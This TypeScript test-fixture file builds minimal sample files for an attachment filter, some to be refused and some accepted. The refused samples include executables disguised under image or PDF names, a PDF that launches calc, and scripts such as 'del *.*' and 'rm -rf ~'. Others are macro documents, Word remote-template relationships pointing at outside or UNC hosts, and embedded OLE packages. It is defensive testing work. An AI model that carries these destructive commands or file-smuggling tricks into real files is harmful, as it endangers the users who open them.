import { zipSync, strToU8 } from 'fflate';
import { CFB } from 'xlsx';

type Bytes = Uint8Array<ArrayBuffer>;

export const textBytes = (text: string): Bytes => Uint8Array.from(strToU8(text));
const raw = (...bytes: readonly number[]): Bytes => Uint8Array.from([...bytes, ...Array<number>(80).fill(0)]);

export const zipOf = (files: Readonly<Record<string, Uint8Array>>): Bytes => Uint8Array.from(zipSync({ ...files }));

/** The smallest picture there is: one point. */
export const PNG = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
);

/** A document of these objects, numbered from 1; the first is its catalogue. */
export function pdfOfObjects(objects: readonly string[], trailer = ''): Bytes {
  let text = '%PDF-1.4\n';
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  text += `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<</Size ${count}/Root 1 0 R${trailer}>>\nstartxref\n${text.length}\n%%EOF\n`;
  return textBytes(text);
}

/** A page with nothing on it. */
export function pdfOf(more = ''): Bytes {
  return pdfOfObjects([
    `<</Type/Catalog/Pages 2 0 R${more}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>',
  ]);
}

interface CompoundTool {
  write(container: object, options: { readonly type: 'buffer' }): unknown;
  readonly utils: { cfb_new(): object; cfb_add(container: object, name: string, content: Uint8Array): void };
}
const tool: CompoundTool = CFB;

/** An OLE container with these streams. */
export function compoundOf(streams: Readonly<Record<string, Uint8Array>>): Bytes {
  const container = tool.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) tool.utils.cfb_add(container, name, content);
  return Uint8Array.from(tool.write(container, { type: 'buffer' }) as Uint8Array);
}

const record = (type: number, data: readonly number[]): readonly number[] => [
  type & 0xff,
  type >> 8,
  data.length & 0xff,
  data.length >> 8,
  ...data,
];

const workbook = (...records: readonly (readonly number[])[]): Bytes =>
  compoundOf({
    '/Workbook': Uint8Array.from([
      ...record(0x0809, [0, 6, 5, 0]),
      ...records.flat(),
      ...record(0x0a, []),
      ...Array<number>(4096).fill(0),
    ]),
  });

const zeroEnded = (text: string): readonly number[] => [...textBytes(text), 0];

/** A file that was dragged into a document. */
function packaged(name: string, bytes: Uint8Array): Uint8Array {
  const path = zeroEnded(`C:\\temp\\${name}`);
  return Uint8Array.from([
    0,
    0,
    0,
    0,
    2,
    0,
    ...zeroEnded(name),
    ...path,
    0,
    0,
    3,
    0,
    path.length,
    0,
    0,
    0,
    ...path,
    bytes.length,
    0,
    0,
    0,
    ...bytes,
  ]);
}

/** A macro's presence in a presentation ([MS-PPT] 2.4.10). */
const slideMacros = Uint8Array.from([
  0x1f,
  0x00,
  0xff,
  0x03,
  0x14,
  0x00,
  0x00,
  0x00,
  0x02,
  0x00,
  0x00,
  0x04,
  0x0c,
  0x00,
  0x00,
  0x00,
  1,
  0,
  0,
  0,
  1,
  0,
  0,
  0,
  2,
  0,
  0,
  0,
  ...Array<number>(4096).fill(0),
]);

/** The header of an encrypted old Word document. */
const lockedWord = Uint8Array.from({ length: 4096 }, (_, at) => ({ 0: 0xec, 1: 0xa5, 11: 0x01 })[at] ?? 0);

export /** What a document names beside itself, of one type. */
const relsOf = (type: string, mode: string, target = 'http://example.cn/a.dotm'): Bytes =>
  textBytes(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
  );

const OOXML: Readonly<Record<string, Uint8Array>> = {
  '[Content_Types].xml': textBytes(
    '<?xml version="1.0"?><Types xmlns="a"><Default Extension="xml" ContentType="a"/></Types>',
  ),
  'word/document.xml': textBytes('<?xml version="1.0"?><w:document xmlns:w="a"><w:body><w:p/></w:body></w:document>'),
};

/** A zip that says of its entries that they are locked. */
function lockedZip(): Bytes {
  const bytes = zipOf({ 'a.txt': textBytes('甲') });
  const central = Buffer.from(bytes).indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  bytes[6] = (bytes[6] ?? 0) | 1;
  bytes[central + 8] = (bytes[central + 8] ?? 0) | 1;
  return bytes;
}

const nested = (depth: number, inner: Uint8Array): Bytes =>
  depth === 0 ? Uint8Array.from(inner) : zipOf({ 'a.zip': nested(depth - 1, inner) });

const exe = raw(0x4d, 0x5a, 0x90, 0x00);

/** What is to be refused, each as the smallest real file of its kind, most under a name that says nothing: code, a word of the sentence, name, bytes. */
export const REFUSED: readonly (readonly [code: string, word: string, name: string, bytes: Bytes])[] = [
  ['dangerous-file', '程序', '通知.pdf', exe],
  ['dangerous-file', '程序', '截图.png', raw(0x7f, 0x45, 0x4c, 0x46)],
  ['dangerous-file', '程序', '截图.jpg', raw(0xcf, 0xfa, 0xed, 0xfe)],
  ['dangerous-file', '程序', '甲', raw(0xca, 0xfe, 0xba, 0xbe)],
  ['dangerous-file', '程序', '图片.exe', PNG],
  ['dangerous-file', '程序', '图片.png.SCR ', PNG],
  ['dangerous-file', '程序', '目录.pdf', pdfOf('/OpenAction<</S /Launch/F(calc)>>')],
  ['dangerous-file', '脚本', '清单.txt', textBytes('@echo off\r\ndel *.*\r\n')],
  ['dangerous-file', '脚本', '清单.bat', textBytes('清单')],
  ['dangerous-file', '脚本', '清单.PS1', textBytes('清单')],
  ['dangerous-file', '脚本', '说明.txt', textBytes('Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc"')],
  ['dangerous-file', '脚本', '说明', textBytes('#!/bin/sh\nrm -rf ~\n')],
  ['dangerous-file', '脚本', '说明.txt', textBytes('var a = new ActiveXObject("WScript.Shell");')],
  ['dangerous-file', '脚本', '页面.html', textBytes('<!DOCTYPE html><html><script>alert(1)</script></html>')],
  ['dangerous-file', '脚本', '页面.html', textBytes('<html><body onload="go()"></body></html>')],
  ['dangerous-file', '脚本', '图.svg', textBytes('<?xml version="1.0"?><svg xmlns="a"><script>1</script></svg>')],
  ['dangerous-file', '脚本', '页面.hta', textBytes('<html></html>')],
  [
    'dangerous-file',
    '脚本',
    '页面.mhtml',
    textBytes(
      'MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n--a\r\nContent-Type: text/html\r\n\r\n<scr=\r\nipt>1</script>',
    ),
  ],
  ['dangerous-file', '快捷方式', '网站.lnk.txt', raw(0x4c, 0, 0, 0, 1, 0x14, 2, 0)],
  ['dangerous-file', '快捷方式', '网站.txt', textBytes('[InternetShortcut]\r\nURL=file:///c:/a.exe')],
  ['dangerous-file', '快捷方式', '网站.txt', textBytes('[Desktop Entry]\nExec=calc\n')],
  ['dangerous-file', '快捷方式', '网站.url', textBytes('网站')],
  ['dangerous-file', '安装包', '安装.zip', zipOf({ 'AndroidManifest.xml': textBytes('a') })],
  ['dangerous-file', '安装包', '安装', raw(...textBytes('MSCF'))],
  ['dangerous-file', '安装包', '安装.msi', PNG],
  ['dangerous-file', '磁盘映像', '盘.png', Uint8Array.from([...Array<number>(32_769).fill(0), ...textBytes('CD001')])],
  ['dangerous-file', '帮助文件', '手册', raw(...textBytes('ITSF'))],
  ['dangerous-file', '宏', '台账.docx', zipOf({ ...OOXML, 'word/vbaProject.bin': raw(1) })],
  ...(
    [
      ['attachedTemplate', 'https://example.cn/a.dotm'],
      ['attachedTemplate', String.raw`\\192.0.2.1\share\a.dotm`],
      ['attachedTemplate', String.raw`file://192.0.2.1/share/a.dotm`],
      ['attachedTemplate', String.raw`file:///\\192.0.2.1\a.dotm`],
      ['oleObject', 'mhtml:http://example.cn/a'],
      ['frame', 'ftp://example.cn/a'],
    ] as const
  ).map(
    ([type, target], at) =>
      [
        'dangerous-file',
        '从别处取来模板',
        `通知${at}.docx`,
        zipOf({ ...OOXML, 'word/_rels/settings.xml.rels': relsOf(type, 'TargetMode="External"', target) }),
      ] as const,
  ),
  ['dangerous-file', '程序', '公告.pdf', textBytes(`MZ\n%PDF-1.4\n${'1 0 obj << >> endobj\n'.repeat(40)}%%EOF`)],
  ['dangerous-file', '宏', '台账.xlsx', zipOf({ ...OOXML, 'xl/macrosheets/sheet1.xml': textBytes('<a/>') })],
  [
    'dangerous-file',
    '宏',
    '台账.ods',
    zipOf({ mimetype: textBytes('a'), 'Basic/Standard/Module1.xml': textBytes('<a/>') }),
  ],
  ['dangerous-file', '宏', '台账.doc', compoundOf({ '/Macros/VBA/dir': raw(1), '/WordDocument': raw(1) })],
  ['dangerous-file', '宏', '台账.xls', compoundOf({ '/_VBA_PROJECT_CUR/VBA/dir': raw(1) })],
  ['dangerous-file', '宏', '台账.xls', workbook(record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]))],
  ['dangerous-file', '宏', '汇报.ppt', compoundOf({ '/PowerPoint Document': slideMacros })],
  ['dangerous-file', '宏', '台账.xml', textBytes('<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>')],
  [
    'dangerous-file',
    '“calc.exe”',
    '台账.doc',
    compoundOf({ '/ObjectPool/_1/\u0001Ole10Native': packaged('calc.exe', exe) }),
  ],
  [
    'dangerous-file',
    '程序',
    '台账.rtf',
    textBytes('{\\rtf1{\\object\\objemb{\\*\\objdata 01050000\n5061636b616765}}}'),
  ],
  ['dangerous-file', '“资料/清单.bat”', '资料.zip', zipOf({ '资料/清单.bat': textBytes('a') })],
  ['dangerous-file', '程序', '资料.zip', zipOf({ '图.png': exe })],
  ['dangerous-file', '宏', '资料.zip', zipOf({ 'a.docx': zipOf({ ...OOXML, 'word/vbaProject.bin': raw(1) }) })],
  [
    'dangerous-file',
    '程序',
    '台账.docx',
    zipOf({
      ...OOXML,
      'word/embeddings/oleObject1.bin': compoundOf({ '/\u0001Ole10Native': packaged('甲.pdf', exe) }),
    }),
  ],
  ['dangerous-file', '程序', '资料.zip', nested(3, zipOf({ 'a.png': exe }).slice())],
  ['dangerous-file', '层层压缩', '资料.zip', nested(6, PNG)],
  ['dangerous-file', '解压', '资料.zip', raw(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c)],
  ['dangerous-file', '解压', '资料.rar', raw(...textBytes('Rar!'))],
  ['dangerous-file', '解压', '资料.zip', zipOf({ 'a.gz': raw(0x1f, 0x8b, 8) })],
  ['dangerous-file', '损坏', '资料.zip', zipOf({ 'a.txt': textBytes('甲'.repeat(2000)) }).slice(0, 60)],
  ['password-protected', '密码', '资料.zip', lockedZip()],
  ['password-protected', '密码', '台账.xlsx', compoundOf({ '/EncryptedPackage': raw(1), '/EncryptionInfo': raw(1) })],
  ['password-protected', '密码', '台账.xls', workbook(record(0x2f, [1, 0]))],
  ['password-protected', '密码', '台账.doc', compoundOf({ '/WordDocument': lockedWord })],
  [
    'unpacks-too-large',
    '解压后',
    '资料.zip',
    zipOf(Object.fromEntries(Array.from({ length: 5001 }, (_, at) => [`${at}.txt`, new Uint8Array(1)]))),
  ],
];

/** What is taken, and the type under which it is kept. */
export const TAKEN: readonly (readonly [mediaType: string, name: string, bytes: Bytes])[] = [
  ['image/png', '截图.png', PNG],
  ['image/png', '截图.txt', PNG],
  ['image/jpeg', '照片.jpg', raw(0xff, 0xd8, 0xff, 0xe0)],
  ['image/webp', '照片.webp', raw(...textBytes('RIFF'), 0, 0, 0, 0, ...textBytes('WEBP'))],
  ['application/pdf', '公告.pdf', pdfOf()],
  ['application/octet-stream', '说明.txt', textBytes('请用浏览器打开 MZ 文件，命令见附件。\r\ncmd 是命令。')],
  ['application/octet-stream', '台账.csv', textBytes('单位,事项\r\n区财政局,预算\r\n')],
  ['application/octet-stream', '页面.html', textBytes('<html><body><p>一网通办 online=1</p></body></html>')],
  ['application/octet-stream', '台账.docx', zipOf(OOXML)],
  // A template of the machine's own, and a link to a page, fetch nothing when the document is opened.
  [
    'application/octet-stream',
    '通知.docx',
    zipOf({
      ...OOXML,
      'word/_rels/settings.xml.rels': relsOf(
        'attachedTemplate',
        'TargetMode="External"',
        String.raw`file:///C:\Users\a\AppData\Roaming\Microsoft\Templates\Normal.dotm`,
      ),
    }),
  ],
  [
    'application/octet-stream',
    '链接.docx',
    zipOf({ ...OOXML, 'word/_rels/document.xml.rels': relsOf('hyperlink', 'TargetMode="External"') }),
  ],
  [
    'application/octet-stream',
    '台账.doc',
    compoundOf({ '/WordDocument': new Uint8Array(4096), '/1Table': new Uint8Array(10) }),
  ],
  ['application/octet-stream', '台账.xls', workbook(record(0x85, [0, 0, 0, 0, 0, 0, 1, 0, 65]))],
  ['application/zip', '资料.zip', zipOf({ '图.png': PNG, '目录/文.docx': zipOf(OOXML) })],
  ['application/octet-stream', '数据.dat', raw(1, 2, 3)],
];
